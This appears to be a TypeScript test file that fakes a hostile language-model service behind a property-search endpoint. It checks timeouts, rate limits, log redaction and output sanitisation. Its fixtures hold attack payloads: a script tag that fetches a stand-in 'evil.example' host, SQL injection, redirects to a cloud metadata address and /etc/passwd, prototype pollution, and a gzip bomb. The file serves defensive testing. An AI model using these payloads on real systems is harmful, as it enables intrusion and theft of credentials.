// The language model of the search is not trusted: its service may answer anything, as slowly as it likes, and the sentences
// of strangers cost money (S14d, T67). A small real web server takes its place.

import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { createSentenceReader } from '../../src/functions/ai-search/sentence-reader.ts'
import { createFunctionsService } from '../../src/functions/service.ts'
import type { Log } from '../../src/ports/log.ts'
import { createOpenAiChatModel } from '../../src/ports/openai-chat-model.ts'
import { startTestApp, type TestApp, type TestSession } from '../support/app.ts'
import {
  answering,
  type ModelBehaviour,
  respond,
  startChatModel,
  type TestChatModel,
} from '../support/chat-model.ts'
import { postJson, readJson } from '../support/json.ts'

/** Longer than a busy machine needs: an answer that waits for the model's has no end. */
const HANGING_MS = 60_000

const owner = { role: null, isReadOnly: false, settings: {}, statementTimeoutMs: 5000 }
const CANARY = 'canary7f3a'

/** No result of the grammar for these sentences: it can come from the model alone. */
const ofTheModel = {
  keywords: ['women'],
  location: 'Madhapur',
  bedrooms: 5,
  priceRange: { min: null, max: 77_000 },
  propertyType: 'villa',
  amenities: ['gym'],
}
type Criteria = typeof ofTheModel

describe('a hostile model', () => {
  let app: TestApp
  let model: TestChatModel
  let visitors = 0
  let sentences = 0
  const told: string[] = []

  beforeAll(async () => {
    model = await startChatModel()
    app = await startTestApp({
      trustedProxies: ['127.0.0.1'],
      services: ({ functionTools, database, clock, limiter }) => ({
        functions: createFunctionsService({
          ...functionTools,
          sentenceReader: createSentenceReader({
            model: createOpenAiChatModel({
              url: model.url,
              key: 'sk-of-the-operator',
              model: 'small-one',
              timeoutMs: 700,
            }),
            database,
            limiter,
            dailyTokens: 1_000_000,
            clock,
            log: listening(told),
          }),
        }),
      }),
    })
  })
  beforeEach(async () => {
    told.length = 0
    // Beyond the pause that earlier failures have caused.
    app.clock.advance(61_000)
    model.behave(answering(ofTheModel))
    await app.database.owner.run(owner, [
      { text: 'delete from _gateway.model_tokens', values: [] },
      { text: 'delete from _gateway.rate_limit_buckets', values: [] },
    ])
  })
  afterAll(async () => {
    await app.close()
    await model.close()
  })

  /** A new sentence, from a new caller. */
  const newSentence = () => `flat number ${(sentences += 1)} in Kondapur ${CANARY}`
  const newAddress = () => `198.${(visitors += 1) >> 8}.${visitors & 255}.7`
  const post = (query: string, address = newAddress(), session: TestSession | null = null) =>
    app.fetch('/functions/v1/ai-search', {
      ...postJson({ query }),
      headers: {
        authorization: `Bearer ${session?.access_token ?? app.anonKey}`,
        'x-forwarded-for': address,
      },
    })
  const ask = async (...asked: Parameters<typeof post>): Promise<Criteria> => {
    const response = await post(...asked)
    expect(response.status).toBe(200)
    return (await readJson<{ result: Criteria }>(response)).result
  }

  const answersOf: Readonly<Record<string, ModelBehaviour>> = {
    'drips a byte now and then': (_asked, response) => {
      response.writeHead(200, { 'content-type': 'application/json' })
      const drip = setInterval(() => response.write(' '), 100)
      response.once('close', () => clearInterval(drip))
    },
    'answers and never ends': (_asked, response) => {
      response.writeHead(200, { 'content-type': 'application/json' })
      response.write(JSON.stringify({ choices: [{ message: { content: '{}' } }] }))
    },
    'never begins': () => {},
    'unpacks to a hundred megabytes': (_asked, response) => {
      response.writeHead(200, { 'content-encoding': 'gzip' })
      response.end(gzipSync(Buffer.alloc(100_000_000, ' ')))
    },
    'says gzip and is none': (_asked, response) => {
      response.writeHead(200, { 'content-encoding': 'gzip' }).end(JSON.stringify(ofTheModel))
    },
    'has headers without end': (_asked, response) => {
      response.socket?.write(`HTTP/1.1 200 OK\r\nx: ${'x'.repeat(200_000)}\r\n\r\n{}`)
    },
    'speaks no HTTP': (_asked, response) => response.socket?.end(`${CANARY}\r\n\r\n`),
    'writes UTF-16': (_asked, response) => {
      const text = JSON.stringify({ choices: [{ message: { content: '{}' } }] })
      response.writeHead(200, { 'content-type': 'application/json; charset=utf-16' })
      response.end(Buffer.from(text, 'utf16le'))
    },
    'writes broken UTF-8': (_asked, response) => {
      response.writeHead(200).end(Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]))
    },
    'nests lists without end': (_asked, response) => respond(response, 200, '['.repeat(60_000)),
    'nests lists in its answer': answering('{"keywords":'.repeat(1_600)),
    'answers with SQL': answering('select * from auth.users; --'),
    'answers with a page': answering(`<script>fetch("https://evil.example/${CANARY}")</script>`),
    'answers with a tool call': (_asked, response) =>
      respond(response, 200, {
        choices: [{ message: { content: null, tool_calls: [{ function: { name: 'rm' } }] } }],
      }),
    'sends to the machine’s own address': (_asked, response) => {
      response.writeHead(302, { location: `${app.origin}/healthz` }).end()
    },
    'sends to the address of a cloud’s keys': (_asked, response) => {
      response.writeHead(308, { location: 'http://169.254.169.254/latest/meta-data/' }).end()
    },
    'sends to a file': (_asked, response) => {
      response.writeHead(301, { location: 'file:///etc/passwd' }).end()
    },
    'names a kind that every object has': answering({ ...ofTheModel, propertyType: 'constructor' }),
    'names amenities that every object has': answering({
      ...ofTheModel,
      amenities: ['__proto__', 'toString'],
    }),
    'adds a prototype': answering('{"__proto__":{"isAdmin":true}}'),
    'counts below nothing': answering({ ...ofTheModel, priceRange: { min: -1, max: 1e300 } }),
    'counts without end': answering(JSON.stringify(ofTheModel).replace('77000', '1e999')),
  }
  it.each(Object.entries(answersOf))(
    'that %s changes nothing: the grammar answers, in time (T67)',
    async (_what, behaviour) => {
      model.behave(behaviour)
      const before = model.asked.length
      const began = performance.now()
      expect(await ask(newSentence())).toMatchObject({ location: 'Kondapur', bedrooms: null })
      expect(performance.now() - began).toBeLessThan(HANGING_MS)
      expect(model.asked).toHaveLength(before + 1)
      expect(Reflect.get({}, 'isAdmin')).toBeUndefined()
      expect(told.join('\n')).not.toMatch(/canary7f3a|sk-of-the-operator/)
    },
  )

  it('gets no sign into an answer that the sentence does not say: no markup, nothing invisible (S14d)', async () => {
    model.behave(
      answering({
        ...ofTheModel,
        keywords: [
          '<b>lake</b>',
          'quiet\u202Eteiuq',
          "lake'); drop table properties;--",
          'la\u200Bke',
        ],
        location: '<img src=x>\u202E Zamistanpur',
      }),
    )
    const criteria = await ask('b quiet lake img src x zamistanpur drop table properties')
    expect(criteria.keywords).toEqual(['b lake b', 'lake drop table properties', 'lake'])
    expect(criteria.location).toBe('img src x Zamistanpur')
  })

  it('cannot pass one person’s words to the next, whose sentence differs only in what is not sent (S14d)', async () => {
    const sentence = `flat ${(sentences += 1)} in Kondapur`
    model.behave(answering({ ...ofTheModel, keywords: ['asha', '9876543210'] }))
    await ask(`${sentence} asha@example.in 9876543210`)
    expect((await ask(`${sentence} ravi@example.in 9123456780`)).keywords).toEqual([])
  })

  it('that will not answer a stranger’s sentences is not taken from the others (S14d)', async () => {
    // What an operator hears, they hear once a day.
    app.clock.advance(25 * 60 * 60 * 1000)
    model.behave((asked, response) => {
      const about = JSON.stringify(asked.body)
      if (about.includes('filtered')) respond(response, 400, { error: { code: 'content_filter' } })
      else if (about.includes('declined')) answering('I cannot help with that.')(asked, response)
      else answering(ofTheModel)(asked, response)
    })
    for (let count = 0; count < 4; count += 1) await ask(`filtered ${newSentence()}`)
    for (let count = 0; count < 4; count += 1) await ask(`declined ${newSentence()}`)
    expect(await ask(newSentence())).toMatchObject({ bedrooms: 5 })
    expect(told).toEqual(['the search’s model refused a sentence, or answered it in words'])
  })

  it('that takes its time holds twenty questions at most; more are answered at once, and all else goes on (S14d)', async () => {
    model.behave(() => {})
    const before = model.asked.length
    const began = performance.now()
    const searches = Array.from({ length: 60 }, () => ask(newSentence()))
    const others = await Promise.all(
      Array.from({ length: 10 }, () => app.fetch('/rest/v1/properties?select=id&limit=1')),
    )
    expect(performance.now() - began).toBeLessThan(HANGING_MS)
    expect(others.map(({ status }) => status)).toEqual(Array.from({ length: 10 }, () => 200))
    await Promise.all(searches)
    expect(model.mostAtOnce()).toBeLessThanOrEqual(20)
    expect(model.asked.length - before).toBeGreaterThan(0)
    expect(model.asked.length - before).toBeLessThan(60)
  })
})

describe('the day’s tokens', () => {
  let app: TestApp
  let model: TestChatModel
  let sentences = 0
  beforeAll(async () => {
    model = await startChatModel()
    app = await startTestApp({
      trustedProxies: ['127.0.0.1'],
      services: ({ functionTools, database, clock, log, limiter }) => ({
        functions: createFunctionsService({
          ...functionTools,
          // Searching itself has limits a minute, which these tests do not wait for.
          limiter: { take: () => Promise.resolve() },
          sentenceReader: createSentenceReader({
            model: createOpenAiChatModel({
              url: model.url,
              key: null,
              model: 'small-one',
              timeoutMs: 20_000,
            }),
            database,
            limiter,
            dailyTokens: 1_000_000,
            clock,
            log,
          }),
        }),
      }),
    })
    model.behave(answering(ofTheModel))
  })
  afterAll(async () => {
    await app.close()
    await model.close()
  })

  const askTimes = async (
    count: number,
    addressOf: (at: number) => string,
    token = app.anonKey,
  ) => {
    const before = model.asked.length
    for (let at = 0; at < count; at += 1) {
      const response = await app.fetch('/functions/v1/ai-search', {
        ...postJson({ query: `flat ${(sentences += 1)} in Kondapur` }),
        headers: { authorization: `Bearer ${token}`, 'x-forwarded-for': addressOf(at) },
      })
      expect(response.status).toBe(200)
    }
    return model.asked.length - before
  }

  it('are not one person’s: a fifteenth, then the grammar answers them (S14d)', async () => {
    await app.createUser({ email: 'asha@example.in', password: 'kX9!vbn2Qw' })
    const { access_token: token } = await app.signIn('asha@example.in', 'kX9!vbn2Qw')
    // From everywhere, so that no network is what stops them.
    expect(await askTimes(50, (at) => `10.1.${at}.1`, token)).toBe(44)
  })

  it.each([
    ['addresses of one network', (at: number) => `203.0.113.${at}`],
    ['an IPv6 network of one customer', (at: number) => `2001:db8:7:${at}::1`],
  ])('are not those of %s: a sixth (S14d)', async (_what, addressOf) => {
    expect(await askTimes(120, addressOf)).toBe(111)
    expect(await askTimes(1, () => '192.0.2.9')).toBe(1)
  })
})

/** Everything that is logged, causes and their stacks too. */
function listening(told: string[]): Log {
  const causes = (error: unknown): string =>
    error instanceof Error ? `${error.stack}\n${causes(error.cause)}` : String(error)
  return {
    access: () => {},
    notice: (text) => void told.push(text),
    sealed: () => {},
    fault: (text, { cause }) => void told.push(text, causes(cause)),
  }
}
